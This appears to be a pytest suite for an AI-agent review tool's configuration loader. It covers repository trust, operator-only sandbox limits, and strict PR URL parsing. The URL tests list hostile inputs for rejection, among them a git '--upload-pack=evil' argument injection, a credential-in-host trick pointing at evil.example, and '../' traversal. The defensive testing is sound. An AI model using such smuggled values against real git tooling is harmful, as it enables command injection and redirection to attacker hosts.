    assert f"{SOURCE}: sandbox: ignored: only the operator's configuration may set it" in cfg.notes
    # and it did not trust itself
    assert cfg.repo_trusted is (repo is trusted)


def test_a_trusted_repository_may_set_every_key() -> None:
    text = '[agents.codex]\nenv_pass = ["GITHUB_TOKEN"]\nstate_dirs = ["~/.ssh"]\n'
    text += '[agents.lint]\nkind = "check"\ncommand = "ruff check ."\n'
    cfg = load_config(trusted(text))
    assert cfg.agents["codex"].env_pass == ["GITHUB_TOKEN"] and cfg.agents["codex"].state_dirs == ["~/.ssh"]
    assert cfg.agents["lint"].command == "ruff check ."
    assert cfg.repo_trusted is True
    assert cfg.notes == [f"{SOURCE}: read as trusted (a local path given on the command line)"]


def test_a_repository_listed_in_trust_may_set_every_key(tmp_path: Path) -> None:
    operator = tmp_path / "config.toml"
    operator.write_text('[trust]\nrepos = ["https://GitHub.com/Acme/App.git"]\n')
    text = '[agents.codex]\nenv_pass = ["GITHUB_TOKEN"]\n'
    assert load_config(untrusted(text), operator).agents["codex"].env_pass == ["GITHUB_TOKEN"]
    other = load_config(untrusted(text, identity="github.com/acme/app-fork"), operator)
    assert other.agents["codex"].env_pass == load_catalog()["codex"].env_pass


def test_repo_file_notes_reach_the_config() -> None:
    file = RepoFile(source=SOURCE, identity="github.com/a/b", notes=["the PR changes jury.toml; x"])
    cfg = load_config(file)
    assert cfg.notes == ["the PR changes jury.toml; x"] and cfg.repo_trusted is None


# --- the operator's file ----------------------------------------------------------------------------


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> pytest.MonkeyPatch:
    for name in list(os.environ):
        if name.upper().startswith("JURY_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return monkeypatch


def test_operator_file_precedence(env: pytest.MonkeyPatch, tmp_path: Path) -> None:
    default = tmp_path / "home" / ".jury" / "config.toml"
    assert operator_config_file(load_settings()) is None  # nothing there: no operator file
    default.parent.mkdir(parents=True)
    default.write_text("")
    assert operator_config_file(load_settings()) == default
    named = tmp_path / "named.toml"
    named.write_text("")
    env.setenv("JURY_CONFIG", str(named))
    assert operator_config_file(load_settings()) == named
    flag = tmp_path / "flag.toml"
    flag.write_text("")
    assert operator_config_file(load_settings(), flag) == flag
    env.delenv("JURY_CONFIG")
    env.setenv("JURY_DIR", str(tmp_path / "elsewhere"))
    assert operator_config_file(load_settings()) is None  # JURY_DIR's config.toml, not ~/.jury's


def test_a_named_operator_file_must_exist(env: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"nope\.toml: config file not found$"):
        operator_config_file(load_settings(), tmp_path / "nope.toml")
    env.setenv("JURY_CONFIG", str(tmp_path / "gone.toml"))
    with pytest.raises(ConfigError, match=r"gone\.toml: config file not found \(JURY_CONFIG\)"):
        operator_config_file(load_settings())


def test_jury_config_expands_home(env: pytest.MonkeyPatch, tmp_path: Path) -> None:
    env.setenv("JURY_CONFIG", "~/ops/jury.toml")
    assert load_settings().config == tmp_path / "home" / "ops" / "jury.toml"


def test_operator_file_sets_sandbox_and_wins_over_the_repository(tmp_path: Path) -> None:
    operator = tmp_path / "config.toml"
    operator.write_text(
        '[sandbox]\nmode = "none"\nnetwork = true\nmemory_mb = 512\nmax_procs = 64\nmax_file_mb = 10\n'
        '[jury]\njudge = "claude"\n[checks]\ntest = "pytest -x"\n[agents.codex]\nmodel = "op"\n'
    )
    repo = trusted('[jury]\njudge = "codex"\nrounds = 2\n[checks]\ntest = "t"\nlint = "l"\n')
    cfg = load_config(repo, operator)
    assert cfg.sandbox == SandboxSettings(
        mode="none", network=True, memory_mb=512, max_procs=64, max_file_mb=10
    )
    assert cfg.jury == JuryDefaults(judge="claude", rounds=2)
    assert cfg.checks == {"test": "pytest -x", "lint": "l"}
    assert cfg.source[-2:] == [SOURCE, str(operator)]
    assert load_config(untrusted('[agents.codex]\nmodel = "repo"\n'), operator).agents["codex"].model == "op"


def test_sandbox_defaults_without_an_operator_table(tmp_path: Path) -> None:
    operator = tmp_path / "config.toml"
    operator.write_text("[jury]\nrounds = 2\n")
    assert load_config(None, operator).sandbox == SandboxSettings()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "[sandbox]\nnetwrok = true\n",
            "[sandbox]: unknown key 'netwrok' (allowed: mode, network, memory_mb",
        ),
        ('[sandbox]\nmode = "docker"\n', "[sandbox].mode: "),
        ('[sandbox]\nnetwork = "yes"\n', "[sandbox].network: must be true or false"),
        ("[sandbox]\nmemory_mb = 1\n", "[sandbox].memory_mb: "),
        ('[sandbox]\nmax_procs = "64"\n', "[sandbox].max_procs: must be a whole number"),
        ("[sandbox]\nmax_file_mb = 1.5\n", "[sandbox].max_file_mb: must be a whole number"),
        ('sandbox = "none"\n', "[sandbox]: must be a table"),
        (
            "[quotas]\ncpu = 2\n",
            "unknown table [quotas] (allowed: agents, jury, checks, trust, sandbox, schedules, limits)",
        ),
        ("[limits]\ncpu = 2\n", "[limits]: unknown key 'cpu' (allowed: per_repo, per_model)"),
        ("limits = 4\n", "[limits]: must be a table"),
        ("[limits]\nper_repo = 0\n", "[limits].per_repo: must be a whole number >= 1, got 0"),
        ("[limits]\nper_repo = true\n", "[limits].per_repo: must be a whole number >= 1, got True"),
        ('[limits]\nper_repo = "4"\n', "[limits].per_repo: must be a whole number >= 1, got '4'"),
        ("[limits]\nper_repo = 1.5\n", "[limits].per_repo: must be a whole number >= 1, got 1.5"),
        ("[limits]\nper_model = 8\n", '[limits].per_model: must be a table of "PATTERN" = N'),
        (
            '[limits]\nper_model = { "anthropic/*" = 0 }\n',
            "[limits].per_model.'anthropic/*': must be a whole",
        ),
        ('[limits]\nper_model = { "openai/*" = "8" }\n', "[limits].per_model.'openai/*': must be a whole"),
        ('[limits]\nper_model = { " " = 2 }\n', "[limits].per_model.' ': a pattern must be 1 to 200"),
        ('[trust]\nrepo = ["x"]\n', "[trust]: unknown key 'repo' (allowed: repos)"),
        ('[trust]\nrepos = "github.com/a/b"\n', "[trust].repos: must be a list of strings"),
        ('[trust]\nrepos = ["github.com/a"]\n', "expected HOST/OWNER/REPO"),
        ('[trust]\nrepos = ["github.com/a/../b"]\n', "contains '..'"),
        ('[trust]\nrepos = ["http://github.com/a/b"]\n', "only https://"),
        ('[trust]\nrepos = ["relative/dir"]\n', "expected HOST/OWNER/REPO"),
        ('[trust]\nrepos = ["not_a_host/a/b"]\n', "'not_a_host' is not a host name"),
        ('[agents.codex]\nargvv = ["x"]\n', "agents.codex: unknown key 'argvv'"),
    ],
)
def test_operator_file_errors_name_file_and_key(tmp_path: Path, text: str, expected: str) -> None:
    operator = tmp_path / "ops.toml"
    operator.write_text(text)
    with pytest.raises(ConfigError) as info:
        load_config(None, operator)
    assert str(info.value).startswith(f"{operator}: ")
    assert expected in str(info.value)


def test_a_repository_cannot_bring_an_unknown_table() -> None:
    with pytest.raises(ConfigError, match=r"unknown table \[quotas\] \(allowed: agents, jury, checks\)$"):
        load_config(untrusted("[quotas]\ncpu = 2\n"))


# --- [limits] ---------------------------------------------------------------------------------------


def test_the_operator_sets_limits(tmp_path: Path) -> None:
    operator = tmp_path / "config.toml"
    operator.write_text('[limits]\nper_repo = 4\nper_model = { "anthropic/*" = 8, "gpt-5*" = 2 }\n')
    limits = load_config(None, operator).limits
    assert limits == Limits(per_repo=4, per_model={"anthropic/*": 8, "gpt-5*": 2})
    assert load_config(None, None).limits == Limits()  # no table, no limit


@pytest.mark.parametrize("repo", [trusted, untrusted])
def test_a_repository_never_sets_limits(tmp_path: Path, repo) -> None:  # type: ignore[no-untyped-def]
    """Operator-only, like [sandbox]: even a trusted repository's [limits] is set aside, and says so."""
    cfg = load_config(repo("[limits]\nper_repo = 100\n"))
    assert cfg.limits == Limits()
    assert any("limits: ignored: only the operator" in note for note in cfg.notes), cfg.notes


# --- trust matching ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "identity"),
    [
        ("github.com/acme/app", "github.com/acme/app"),
        ("GitHub.com/Acme/App", "github.com/acme/app"),
        ("https://github.com/acme/app.git", "github.com/acme/app"),
        ("https://github.com/acme/app/", "github.com/acme/app"),
        ("gitlab.com/group/sub/app", "gitlab.com/group/sub/app"),
        ("git.corp.example:8443/team/app", "git.corp.example:8443/team/app"),
        ("/srv/repos/app", "/srv/repos/app"),
    ],
)
def test_trust_entries_normalise(entry: str, identity: str) -> None:
    assert normalise_trust_entry(entry) == identity


def test_trust_path_entries_resolve_symlinks_and_home(tmp_path: Path, monkeypatch) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert normalise_trust_entry("~/link") == str(real)
    assert is_trusted(str(tmp_path / "link"), False, [str(real)]) == (True, "listed in [trust] repos")
    assert is_trusted(str(tmp_path / "other"), False, [str(real)])[0] is False


@pytest.mark.parametrize(
    ("identity", "local", "trusted_list", "expected"),
    [
        ("/src/app", True, [], True),  # a path given on the command line
        ("github.com/acme/app", False, [], False),  # a PR URL, not listed
        ("github.com/acme/app", False, ["github.com/acme/app"], True),
        ("github.com/Acme/App", False, ["github.com/acme/app"], True),
        ("github.com/acme/app-fork", False, ["github.com/acme/app"], False),  # no prefixes
        ("github.com/acme", False, ["github.com/acme/app"], False),
        ("gitlab.com/acme/app", False, ["github.com/acme/app"], False),  # another host
        ("/src/app", False, ["github.com/acme/app"], False),
    ],
)
def test_trust_matching(identity: str, local: bool, trusted_list: list[str], expected: bool) -> None:
    assert is_trusted(identity, local, trusted_list)[0] is expected


# --- PR URLs ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host", "project", "kind", "number"),
    [
        ("https://github.com/acme/app/pull/7", "github.com", "acme/app", "pull", "7"),
        ("https://github.com/acme/app/pull/7/", "github.com", "acme/app", "pull", "7"),
        ("https://GitHub.com/acme/.github/pull/12", "github.com", "acme/.github", "pull", "12"),
        ("https://github.com/my-org/my_app.v2/pull/1", "github.com", "my-org/my_app.v2", "pull", "1"),
        ("https://gitlab.com/g/app/-/merge_requests/3", "gitlab.com", "g/app", "merge_requests", "3"),
        (
            "https://gitlab.com/g/sub/subsub/app/-/merge_requests/30",
            "gitlab.com",
            "g/sub/subsub/app",
            "merge_requests",
            "30",
        ),
        ("https://gitlab.com/g/app/merge_requests/3", "gitlab.com", "g/app", "merge_requests", "3"),
        ("https://git.corp.example/team/app/pull/5", "git.corp.example", "team/app", "pull", "5"),
        (
            "https://git.corp.example:8443/a/b/-/merge_requests/5",
            "git.corp.example:8443",
            "a/b",
            "merge_requests",
            "5",
        ),
    ],
)
def test_good_pr_urls(url: str, host: str, project: str, kind: str, number: str) -> None:
    pr = parse_pr_url(url, ["git.corp.example", "git.corp.example:8443"])
    assert (pr.host, pr.project, pr.kind, pr.number) == (host, project, kind, number)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://github.com/acme/app/pull/7", "only https:// URLs are fetched, not http://"),
        ("file:///srv/app/pull/7", "only https:// URLs"),
        ("ssh://github.com/acme/app/pull/7", "only https:// URLs"),
        ("https://evil.example/acme/app/pull/7", "host 'evil.example' is not an allowed forge"),
        ("https://github.com.evil.example/acme/app/pull/7", "is not an allowed forge"),
        ("https://github.com:8443/acme/app/pull/7", "host 'github.com:8443' is not an allowed forge"),
        ("https://user:pw@github.com/acme/app/pull/7", "must not hold credentials"),
        ("https://github.com@evil.example/acme/app/pull/7", "must not hold credentials"),
        ("https://github.com/acme/../app/pull/7", "contains '..'"),
        ("https://github.com/../../etc/pull/7", "contains '..'"),
        ("https://github.com/acme/a..b/pull/7", "contains '..'"),
        ("https://github.com/-acme/app/pull/7", "starts with '-'"),
        ("https://github.com/acme/--upload-pack=evil/pull/7", "starts with '-'"),
        ("https://github.com/acme/%2e%2e/pull/7", "contains a '%' escape"),
        ("https://github.com/acme/app.git/pull/7", "ends with '.git'"),
        ("https://github.com/acme/a b/pull/7", "has characters other than"),
        ("https://github.com/acme/app/pull/7abc", "must be digits"),
        ("https://github.com/acme/app/pull/0", "must be digits"),
        ("https://github.com/acme/app/pull/-7", "must be digits"),
        ("https://github.com/acme/app/pull/\u0663", "must be digits"),  # an Arabic-Indic three
        ("https://github.com/acme/app/pull/", "must be digits"),
        ("https://github.com/acme/app/pull/7?x=1", "must not carry a query"),
        ("https://github.com/acme/app/pull/7#top", "must not carry a query"),
        ("https://github.com/acme/sub/app/pull/7", "names exactly OWNER/REPO"),
        ("https://github.com/app/pull/7", "names exactly OWNER/REPO"),
        ("https://github.com/acme/app/merge_requests/7", "github.com serves pull/N"),
        ("https://gitlab.com/acme/app/pull/7", "gitlab.com serves merge_requests/N"),
        ("https://github.com/acme/app/-/pull/7", "'/-/' goes only before merge_requests"),
        ("https://example.com/not-a-pr", "not a pull/merge request URL"),
        ("https://github.com/acme/app/issues/7", "not a pull/merge request URL"),
        ("https://github.com:x/acme/app/pull/7", "cannot be parsed"),
    ],
)
def test_bad_pr_urls(url: str, expected: str) -> None:
    with pytest.raises(TargetError) as info:
        parse_pr_url(url)
    assert expected in str(info.value)


def test_enterprise_hosts_come_from_the_setting(env: pytest.MonkeyPatch) -> None:
    env.setenv("JURY_FORGE_HOSTS", " Git.Corp.Example , code.example:8443,")
    hosts = load_settings().forge_hosts
    assert hosts == ["git.corp.example", "code.example:8443"]
    assert parse_pr_url("https://git.corp.example/a/b/pull/1", hosts).host == "git.corp.example"
    env.setenv("JURY_FORGE_HOSTS", "git.corp/evil")
    with pytest.raises(ConfigError, match="JURY_FORGE_HOSTS"):
        load_settings()


# --- jury.toml from the trunk side ------------------------------------------------------------------


def _git(repo: Path, *args: str) -> str:
    ident = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"]
    done = subprocess.run(["git", *ident, *args], cwd=repo, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@pytest.fixture
def branches(tmp_path: Path) -> Path:
    """A repository whose main holds jury.toml A and whose feature branch changes it to B."""
    repo = tmp_path / "app"
    repo.mkdir()
    _git(repo, "init", "--quiet", "--initial-branch=main")
    (repo / "jury.toml").write_text('[checks]\ntest = "trunk"\n')
    (repo / "a.py").write_text("a = 1\n")
    _git(repo, "add", "-A")
    _git(repo, "commit", "--quiet", "-m", "trunk")
    _git(repo, "checkout", "--quiet", "-b", "feature")
    (repo / "jury.toml").write_text('[checks]\ntest = "pr"\n[agents.evil]\nkind = "check"\ncommand = "x"\n')
    (repo / "a.py").write_text("a = 2\n")
    _git(repo, "commit", "--quiet", "-am", "pr")
    # and the working tree holds a third version, as an uncommitted edit
    (repo / "jury.toml").write_text('[checks]\ntest = "worktree"\n')
    return repo


def test_jury_toml_is_read_at_the_merge_base(branches: Path) -> None:
    target = resolve_local(branches, "feature", "main")
    file = repo_config(target)
    assert file.text == '[checks]\ntest = "trunk"\n'
    assert file.local and file.identity == str(branches)
    assert file.source == f"{branches}/jury.toml (at merge-base {target.base[:12]})"
    assert file.notes == ["the PR changes jury.toml; its changes were not applied"]
    cfg = load_config(file)
    assert cfg.checks == {"test": "trunk"} and "evil" not in cfg.agents
    assert "the PR changes jury.toml; its changes were not applied" in cfg.notes


def test_an_unchanged_jury_toml_gives_no_note(branches: Path) -> None:
    _git(branches, "checkout", "--quiet", "-f", "feature")
    _git(branches, "checkout", "--quiet", "main", "--", "jury.toml")
    _git(branches, "commit", "--quiet", "-m", "restore jury.toml")
    file = repo_config(resolve_local(branches, "feature", "main"))
    assert file.text == '[checks]\ntest = "trunk"\n' and file.notes == []


def test_a_jury_toml_the_pr_adds_is_not_read(branches: Path) -> None:
    _git(branches, "checkout", "--quiet", "-f", "main")
    _git(branches, "rm", "--quiet", "jury.toml")
    _git(branches, "commit", "--quiet", "-m", "no config on trunk")
    _git(branches, "checkout", "--quiet", "-b", "adds")
    (branches / "jury.toml").write_text('[checks]\ntest = "pr"\n')
    _git(branches, "add", "jury.toml")
    _git(branches, "commit", "--quiet", "-m", "adds")
    file = repo_config(resolve_local(branches, "adds", "main"))
    assert file.text is None and file.notes == ["the PR changes jury.toml; its changes were not applied"]
    assert load_config(file).checks == {}


def test_a_symlinked_jury_toml_is_not_read(branches: Path, tmp_path: Path) -> None:
    (tmp_path / "outside.toml").write_text('[checks]\ntest = "outside"\n')
    _git(branches, "checkout", "--quiet", "-f", "main")
    (branches / "jury.toml").unlink()
    (branches / "jury.toml").symlink_to(tmp_path / "outside.toml")
    _git(branches, "add", "-A")
    _git(branches, "commit", "--quiet", "-m", "a link")
    _git(branches, "checkout", "--quiet", "-b", "f2")
    (branches / "a.py").write_text("a = 3\n")
    _git(branches, "commit", "--quiet", "-am", "change")
    file = repo_config(resolve_local(branches, "f2", "main"))
    assert file.text is None
    assert any("not a regular file (mode 120000); not read" in n for n in file.notes)


def test_a_pr_urls_repository_is_not_local(branches: Path) -> None:
    target = resolve_local(branches, "feature", "main").model_copy(
        update={"url": "https://github.com/Acme/App/pull/9"}
    )
    file = repo_config(target)
    assert (file.local, file.identity) == (False, "github.com/acme/app")
    assert file.source.startswith("github.com/acme/app/jury.toml (at merge-base ")


def test_a_checkout_reads_its_trunk_side(branches: Path) -> None:
    _git(branches, "checkout", "--quiet", "-f", "feature")
    (branches / "jury.toml").write_text('[checks]\ntest = "worktree"\n')
    file = checkout_config(branches)
    assert file.text == '[checks]\ntest = "trunk"\n' and file.local


def test_a_huge_jury_toml_is_refused(branches: Path) -> None:
    _git(branches, "checkout", "--quiet", "-f", "main")
    (branches / "jury.toml").write_text("# x\n" * 300_000)
    _git(branches, "commit", "--quiet", "-am", "huge")
    _git(branches, "checkout", "--quiet", "-b", "f3")
    (branches / "a.py").write_text("a = 4\n")
    _git(branches, "commit", "--quiet", "-am", "change")
    with pytest.raises(ConfigError, match=r"jury\.toml \(at merge-base \w+\): 1200000 bytes"):
        repo_config(resolve_local(branches, "f3", "main"))


def test_the_documented_operator_example_loads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "configuration.md").read_text()
    section = page[page.index("## The configuration layers\n") : page.index("## Fair sharing\n")]
    found = re.search(r"```toml\n(.*?)```", section, re.DOTALL)
    assert found
    monkeypatch.setenv("HOME", str(tmp_path))
    operator = tmp_path / "config.toml"
    operator.write_text(found.group(1))
    cfg = load_config(untrusted('[agents.codex]\nenv_pass = ["X"]\n', "github.com/acme/app"), operator)
    assert cfg.repo_trusted is True and cfg.agents["codex"].env_pass == ["X"]
    assert cfg.sandbox == SandboxSettings()
    assert cfg.agents["mybot"].state_dirs == ["~/.mybot"] and cfg.agents["mybot"].can_judge
    assert is_trusted(
        str(tmp_path / "src" / "tools"), False, parse_trust("x", tomllib.loads(found.group(1)))
    )[0]
